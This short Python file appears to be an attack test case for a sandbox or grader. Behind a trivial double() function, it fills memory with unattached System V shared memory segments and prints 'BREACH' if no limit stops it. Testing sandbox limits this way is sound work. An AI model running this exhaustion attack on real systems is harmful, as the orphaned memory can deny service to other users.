# attack: fills the memory with shared segments that no process has attached
# points: double=0 total=4
# %% double
import ctypes
def double(x): return x
libc, kept = ctypes.CDLL(None, use_errno=True), 0
libc.shmat.restype = ctypes.c_void_p
libc.shmdt.argtypes = [ctypes.c_void_p]
while kept < 1100:
    number = libc.shmget(0, 100 << 20, 0o1600)
    place = libc.shmat(number, None, 0) if number >= 0 else None
    if place in (None, ctypes.c_void_p(-1).value):
        break
    ctypes.memset(place, 1, 100 << 20)
    libc.shmdt(place)
    kept += 100
else:
    print("BREACH:", kept, "MB")
